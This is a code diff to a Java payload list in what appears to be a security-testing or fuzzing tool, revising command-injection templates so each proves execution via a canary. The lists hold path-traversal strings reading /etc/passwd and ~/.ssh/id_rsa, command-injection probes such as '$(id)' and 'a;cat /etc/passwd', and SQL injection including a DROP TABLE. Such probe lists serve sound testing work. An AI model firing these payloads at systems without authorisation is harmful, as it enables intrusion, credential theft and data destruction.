@@ -23,9 +23,12 @@ final class Payloads {
                 "..%252f..%252fetc%252fpasswd", "/etc/passwd", "/proc/self/environ", "/proc/self/cmdline",
                 "file:///etc/passwd", "file:///c:/windows/win.ini", "\\\\127.0.0.1\\share\\{C}", "C:\\Windows\\win.ini",
                 "../../../etc/passwd\u0000.png", "../{C}/../../etc/hosts", "~/.ssh/id_rsa", "/proc/self/status", "secret.txt::$DATA");
-        put(AggressiveStrategy.COMMAND_INJECTION, "; id", "; echo {C}", "$(id)", "$(echo {C})", "`id`", "`echo {C}`",
-                "| id", "| echo {C}", "&& id", "&& echo {C}", "|| echo {C}", "\n echo {C}", "; sleep 0 #{C}",
-                "& echo {C} &", "$({C})", "a;cat /etc/passwd #{C}");
+        // every command template runs something whose output proves execution (id, a passwd read, or the
+        // canary itself as a command: "sh: 1: <canary>: not found"), so one draw per tool can show it
+        put(AggressiveStrategy.COMMAND_INJECTION, "; id #{C}", "; echo {C}; id", "$(id){C}", "$(echo {C})$(id)",
+                "`id`{C}", "`echo {C}``id`", "| id #{C}", "| echo {C}; id", "&& id #{C}", "&& echo {C} && id",
+                "|| id #{C}", "\n id #{C}", "; sleep 0; {C}", "& {C} &", "$({C})", "a;cat /etc/passwd #{C}",
+                "& vol & {C}");
         put(AggressiveStrategy.SQLI, "' OR 1=1--", "' OR '1'='1", "\" OR \"1\"=\"1", "'; DROP TABLE users;--{C}",
                 "' UNION SELECT NULL,NULL--", "' UNION SELECT '{C}',NULL--", "1; SELECT pg_sleep(0)--",
                 "' AND SLEEP(0)--", "'; WAITFOR DELAY '0:0:0'--", "admin'--", "1' ORDER BY 99--", "' OR ''='",
